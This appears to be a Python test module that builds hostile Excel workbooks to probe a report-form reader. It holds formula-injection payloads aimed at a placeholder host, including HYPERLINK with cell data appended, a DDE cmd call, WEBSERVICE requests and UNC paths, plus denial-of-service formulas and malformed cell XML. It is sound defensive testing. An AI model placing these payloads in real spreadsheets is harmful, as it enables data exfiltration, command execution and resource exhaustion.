"""Attacks by what stands in cells: texts that want to be formulas, the longest texts, odd numbers and addresses, formulas without end."""

from __future__ import annotations

import re
from collections.abc import Mapping
from functools import cache, partial
from xml.sax.saxutils import escape

from attacks import MARK, Attacks
from attacks_packages import BOOK, SHEET, edited, package, sound
from lakip_xl.cells import MAX_TEXT, Value
from lakip_xl.form.editions import NEWEST
from lakip_xl.workbook import Workbook
from workbook_samples import parts
from workbooks import EXAMPLE, typed_in

ATTACKS = Attacks("What stands in cells")
add, attack = ATTACKS.add, ATTACKS.attack

# ---- texts that want to be more

INJECTIONS: dict[str, str] = {
    "hyperlink": f'=HYPERLINK("http://{MARK}/?"&A1,"Klik")',
    "dde": f"=cmd|'/c {MARK}'!A1",
    "plus": f"+{MARK}+1",
    "minus": f"-{MARK}-1",
    "at": f'@SUM(1)*WEBSERVICE("http://{MARK}")',
    "tab": f'\t=WEBSERVICE("http://{MARK}")',
    "return": f'\r\n=WEBSERVICE("http://{MARK}")',
    "apostrophe": f"'={MARK}",
    "braces": f"{{={MARK}!A1}}",
    "url": f"http://{MARK}/a?b=1",
    "unc": rf"\\{MARK}\bagi\a.xlsx",
    "file": f"external:{MARK}.xlsx",
    "internal": f"internal:'{MARK}'!A1",
    "markup": f'<a href="http://{MARK}">&amp;]]></a><script>',
    "field": f'{{ INCLUDETEXT "http://{MARK}" }}',
    "quotes": f'"&HYPERLINK("http://{MARK}")&"',
    "braces-python": "{0.__class__} {} %s %n %(a)s " + MARK,
    "terminal": f"\x9b31m{MARK}",
    "header": f"&P&N&G{MARK}",
}
_TEXTS = ("no", "tujuan", "sasaran", "indikator", "formulasi", "sumber_data", "satuan", "standar_nasional", "program_pendukung",
          "penyebab", "upaya", "tahun", "program", "keterangan", "uraian", "sub_unit", "jabatan", "rangkap")  # fmt: skip


def with_text(text: str) -> bytes:
    """The example with a text in every place where people write words."""
    book = Workbook.from_bytes((EXAMPLE / "matriks.xlsx").read_bytes())
    for table in NEWEST.tables:
        if table.title not in book.sheet_names:
            continue
        sheet = book.sheet(table.title)
        for column in table.columns:
            if column.key in _TEXTS:
                for row in (table.first_row + 1, table.first_row + 3):
                    if not (table.key == "matriks" and column.key == "uraian" and row == table.first_row + 1):
                        sheet.write((row, table.position(column.key)), value=text)
    identity = book.sheet("Identitas")
    for row, cells in identity.filled().items():
        if any(
            str(cell.value).startswith(("Perangkat Daerah", "Kabupaten", "Nama laporan", "Dokumen", "Jabatan"))
            for cell in cells.values()
        ):
            identity.write((row, 3), value=text)
    return book.to_bytes()


for _name, _text in INJECTIONS.items():
    add(f"text-{_name}", f"`{_text.strip()[:60]}` as a text in every place for words", partial(with_text, _text))


@attack("text-title", "sheets and names called like formulas")
def _titles() -> bytes:
    data = edited(BOOK, 'name="Petunjuk"', 'name="=1+cmd|&apos; !A1"')
    content = parts(data)[BOOK].replace(b'name="Pegawai"', b'name="@SUM(1)"').replace(b"Pegawai!", b"'@SUM(1)'!")
    content = content.replace(b"Petunjuk!", b"'=1+cmd|'' !A1'!")
    return package({BOOK: content})


add("text-file-name", "a workbook whose name is a formula", lambda: package({}), file=f"=HYPERLINK('{MARK}') & @x.xlsx")
add("text-file-name-line", "a workbook whose name has two lines", lambda: package({}), file="baris\nGagal: palsu.xlsx")
add(
    "text-file-name-link",
    "a workbook whose name looks like a link",
    lambda: package({}),
    file=f"mailto:a@{MARK}#'!A1.xlsx",
)


# ---- the longest texts


def longest(key: str, text: str) -> bytes:
    """A workbook with a text of full length in every column of a table that takes words, and in every one for figures."""
    table = NEWEST.table(key)
    row: Mapping[str, Value] = {column.key: text for column in table.columns}
    return typed_in({key: [row, row]})


for _key in ("sasaran", "pk", "matriks", "belanja", "pegawai"):
    add(
        f"long-{_key}",
        f"32,767 characters in every column of {NEWEST.table(_key).title}",
        partial(longest, _key, "Panjang " * 4095 + "sekali."),
    )
add(
    "long-unbroken",
    "32,767 characters without a space in every column of Matriks",
    partial(longest, "matriks", "W" * MAX_TEXT),
)
add(
    "long-lines",
    "32,767 line breaks in every column of Matriks",
    partial(longest, "matriks", "a" + "\n" * (MAX_TEXT - 2) + "b"),
)
add("long-digits", "32,767 digits in every column of Matriks", partial(longest, "matriks", "9" * MAX_TEXT))
add(
    "long-brackets",
    "32,767 brackets in every column of Matriks",
    partial(longest, "matriks", "=" + "(" * (MAX_TEXT - 1)),
)
add("long-numbers", "a text of 8,000 numbers in every column of Matriks", partial(longest, "matriks", "1.2, " * 6500))
add(
    "long-dots", "32,767 times a dot and a digit in every column of Matriks", partial(longest, "matriks", ".1" * 16_383)
)
add(
    "long-rp", "Rp and 32,000 spaces in every column of Matriks", partial(longest, "matriks", "Rp" + " " * 32_000 + "-")
)


@attack("long-identity", "32,767 characters in every field of Identitas")
def _identity() -> bytes:
    return typed_in(
        {}, {field.key: "Dinas " * 5461 for field in NEWEST.identity if field.key not in ("tahun", "periode")}
    )


@attack("too-long", "a text of a million characters, which Excel itself cannot hold")
def _too_long() -> bytes:
    return cell('<c r="C13" t="inlineStr"><is><t>' + "x" * 1_000_000 + "</t></is></c>")


@attack("long-title", "a sheet whose name has 10,000 characters")
def _long_title() -> bytes:
    return edited(BOOK, 'name="Petunjuk"', f'name="{"a" * 10_000}"')


# ---- odd cells


@cache
def _row(number: int) -> re.Match[bytes]:
    found = re.search(rb'<row r="%d"[^>]*>(.*?)</row>' % number, sound()[SHEET], re.S)
    assert found
    return found


def cell(xml: str, row: int = 13) -> bytes:
    """The workbook with a cell of Matriks written anew as this XML."""
    ref = re.search(r'r="([A-Z]+)\d+"', xml)
    assert ref
    old = re.search(rb'<c r="%s%d"(?: [^>]*)?(?:/>|>.*?</c>)' % (ref[1].encode(), row), sound()[SHEET], re.S)
    assert old, xml[:80]
    content = sound()[SHEET]
    return package({SHEET: content[: old.start()] + xml.encode() + content[old.end() :]})


NUMBERS = {
    "1e308": "1e308", "1e309": "1e309", "1e-400": "1e-400", "nan": "NaN", "inf": "INF", "minus-inf": "-Infinity", "minus-zero": "-0",
    "400-digits": "9" * 400, "100000-digits": "9" * 100_000, "underscore": "1_000", "hex": "0x1F", "arabic": "٣٤", "wide": "１２",
    "spaces": " 5 ", "empty": "", "words": "dua belas", "huge-exponent": "1e999999999", "many-decimals": "0." + "3" * 5000,
}  # fmt: skip
for _name, _text in NUMBERS.items():
    add(
        f"number-{_name}",
        f"`{_text[:20]}` as the stored figure of anggaran",
        partial(cell, f'<c r="M13"><v>{_text}</v></c>'),
    )
for _name, _xml in {
    "string-index": '<c r="C13" t="s"><v>999999999999</v></c>',
    "string-negative": '<c r="C13" t="s"><v>-1</v></c>',
    "string-word": '<c r="C13" t="s"><v>satu</v></c>',
    "bool-odd": '<c r="K13" t="b"><v>7</v></c>',
    "error-odd": '<c r="K13" t="e"><v>#SERANGAN!</v></c>',
    "date-iso": '<c r="K13" t="d"><v>99999-99-99T99:99</v></c>',
    "type-odd": '<c r="K13" t="zzz"><v>1</v></c>',
    "style-far": '<c r="K13" s="999999999"><v>1</v></c>',
    "style-negative": '<c r="K13" s="-5"><v>1</v></c>',
    "style-word": '<c r="K13" s="merah"><v>1</v></c>',
    "rich": '<c r="C13" t="inlineStr"><is>' + "<r><t>a</t></r>" * 50_000 + "</is></c>",
    "escapes": '<c r="C13" t="inlineStr"><is><t>_x0000__xD800__x005F_x0041_&#x202E;&#x200B;&#xFEFF;</t></is></c>',
    "two-values": '<c r="K13"><v>1</v><v>2</v><is><t>3</t></is></c>',
    "nested": '<c r="K13"><c r="L13"><v>1</v></c><v>1</v></c>',
}.items():
    add(f"cell-{_name}", f"`{escape(_xml[:70])}`", partial(cell, _xml))
for _name, _ref in {
    "far": "ZZZ9999999", "zero": "A0", "nothing": "", "lower": "m13", "absolute": "$M$13", "words": "sel", "range": "A1:B2", "column": "M",
    "long": "A" * 5000 + "13",
}.items():  # fmt: skip
    add(
        f"address-{_name}",
        f"a cell whose address is `{_ref[:20]}`",
        partial(edited, SHEET, '<c r="M13"', f'<c r="{_ref}"'),
    )
for _name, _number in {
    "zero": "0",
    "negative": "-1",
    "float": "1e3",
    "far": "99999999999",
    "word": "satu",
    "nothing": "",
}.items():
    add(
        f"row-{_name}",
        f"a row whose number is `{_number}`",
        partial(edited, SHEET, '<row r="13"', f'<row r="{_number}"'),
    )


@attack("numbers-huge", "the largest number there is as anggaran and realisasi of every row")
def _huge() -> bytes:
    content = re.sub(
        rb'<c r="([MN])(\d+)"( s="\d+")?><v>[^<]*</v>', rb'<c r="\1\2"\3><v>1.7976931348623157e308</v>', sound()[SHEET]
    )
    assert content != sound()[SHEET]
    return package({SHEET: content})


add(
    "cells-twice",
    "a cell that stands there twice",
    lambda: edited(SHEET, '<c r="M13"', '<c r="M13"><v>7</v></c><c r="M13"'),
)
add(
    "rows-twice",
    "a row that stands there twice",
    lambda: edited(SHEET, '<row r="13"', '<row r="12"><c r="M12"><v>5</v></c></row><row r="13"'),
)


# ---- formulas


def formula(text: str) -> bytes:
    """The workbook with a formula as target, without a stored value, so that it is worked out; and as realisasi, with one."""
    target, content = f'<c r="F13"><f>{escape(text)}</f></c>', cell(f'<c r="K13"><f>{escape(text)}</f><v>1</v></c>')
    return package(
        {
            SHEET: re.sub(
                rb'<c r="F13"(?: [^>]*)?(?:/>|>.*?</c>)',
                lambda _: target.encode(),
                parts(content)[SHEET],
                count=1,
                flags=re.S,
            )
        }
    )


for _name, _words, _text in (
    ("self", "a realisasi that counts itself", "K13+1"),
    ("brackets", "4,000 brackets, each in the other", "(" * 4000 + "1" + ")" * 4000),
    ("brackets-open", "4,000 brackets that never close", "(" * 4000),
    ("minus", "8,000 signs in a row", "-" * 8000 + "1"),
    ("if", "2,000 IF, each in the other", "IF(1," * 2000 + "1" + ")" * 2000),
    ("long", "a formula of a million characters", "+".join(["A1"] * 300_000)),
    ("whole-sheet", "the sum of a whole sheet, three hundred times", "+".join(["SUM(Pengaturan!A1:XFD1048576)"] * 300)),
    (
        "ranges",
        "SUM of 699 ranges, each a row of the sheet",
        "SUM(" + ",".join(f"Pegawai!A{n}:XFD{n}" for n in range(1, 700)) + ")",
    ),
    ("power", "9 to the power of 9 to the power of 9", "9^9^9^9^9"),
    ("rept", "a text repeated a thousand million times", 'REPT("x",1000000000)'),
    ("joined", "& between 1,000 texts", "&".join(['"aaaa"'] * 1000)),
    ("link", "a formula that reads a file on a server", rf"'\\{MARK}\bagi\[a.xlsx]Sheet1'!A1"),
    ("indirect", "INDIRECT, OFFSET, and names that are not there", 'INDIRECT("A"&K13)+OFFSET(A1,-1,-1)+tiada!A1+#REF!'),
    ("lambda", "a LAMBDA that calls itself", "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.f(_xlpm.x)),_xlpm.f(1))"),
    ("array-constant", "a constant of 4,000 figures", "SUM({" + ";".join(["1,2,3,4"] * 1000) + "})"),
    ("quotes", "an odd number of quotes", '"a""&"'),
    ("garbage", "characters that make no formula", "=;;)(%%&&::''!!{}"),
    (
        "countif",
        "COUNTIF, SUMIF and MATCH over whole sheets",
        'COUNTIF(Pegawai!A1:XFD1048576,"a*")+SUMIF(Belanja!A1:Z1048576,">0")+MATCH(1,PK!A1:A1048576,0)',
    ),
    ("columns", "SUM over a million rows of a column", "SUM(Pegawai!A1:A1048576)+COUNTBLANK(Pegawai!B1:B1048576)"),
    (
        "wildcards",
        "a criterion that fits in more ways than can be counted",
        'COUNTIF(C7:C87,"*a*a*a*a*a*a*a*a*b")+COUNTIF(D7:D87,"*?*?*?*?*?*?*?*?!")',
    ),
    ("left", "a text cut to fewer than no characters", "LEFT(C13,-5)&LEFT(C13,1E300)"),
    ("round", "a figure rounded to a thousand million digits", "ROUND(1/3,1000000000)+ROUND(1,-1000000000)"),
    ("substitute", "a text put into itself, again and again", 'SUBSTITUTE(C13,"a",SUBSTITUTE(C13,"a",REPT(C13,99)))'),
    ("unicode", "letters beyond ASCII where functions stand", "ＳＵＭ(Ａ１)+∑(A1)"),
):
    add(f"formula-{_name}", _words, partial(formula, _text))


def chained(text: str, value: str = "1") -> bytes:
    """Sixty rows of a column, each a formula of the row below, with stored results that nobody can trust."""
    content = sound()[SHEET].decode()
    for row in range(8, 68):
        made = f'<c r="F{row}"><f>{escape(text.format(row + 1))}</f></c>'
        content = re.sub(rf'<c r="F{row}"(?: [^>]*)?(?:/>|>.*?</c>)', made, content, count=1, flags=re.S)
    return package({SHEET: content.encode()})


add("chain-twice", "sixty cells, each twice the next (2 to the power of 60 looks)", partial(chained, "F{0}+F{0}"))
add("chain-text", "sixty cells, each its next joined to itself", partial(chained, 'F{0}&"ab"&F{0}'))
add(
    "chain-substitute",
    "sixty cells, each its next put in place of each of its letters",
    partial(chained, 'SUBSTITUTE("aaaa"&F{0},"a","aa"&F{0})'),
)
add("chain-power", "sixty cells, each its next to the power of itself", partial(chained, "(F{0}+2)^(F{0}+2)"))
add(
    "chain-ranges",
    "sixty cells, each the sum of 150,000 others and the next",
    partial(chained, "SUM(Pegawai!A1:A150000)+F{0}"),
)
add("chain-circle", "sixty cells that lead to each other in a circle", partial(chained, "IF(F{0}>0,F8,F67)"))


@attack("formula-own-sheet", "a formula of Ringkasan that was made to read a server")
def _own_sheet() -> bytes:
    part = "xl/worksheets/sheet9.xml"
    content = re.sub(rb"<f>[^<]*</f>", f"<f>WEBSERVICE(&quot;http://{MARK}&quot;)</f>".encode(), sound()[part], count=1)
    return package({part: content})


@attack("formula-shared-far", "a shared formula whose range is the whole sheet")
def _shared() -> bytes:
    return cell('<c r="K13"><f t="shared" ref="A1:XFD1048576" si="0">A1+B2</f><v>1</v></c>')


@attack("formula-table", "a data table and an array formula over the form")
def _table() -> bytes:
    return cell('<c r="K13"><f t="dataTable" ref="K13:V80" dt2D="1" r1="A1" r2="B1"/><v>1</v></c>')


@attack("array-whole", "an array formula over the whole sheet")
def _array() -> bytes:
    return cell('<c r="K13"><f t="array" ref="A1:XFD1048576">ROW(A1:A9)</f><v>1</v></c>')
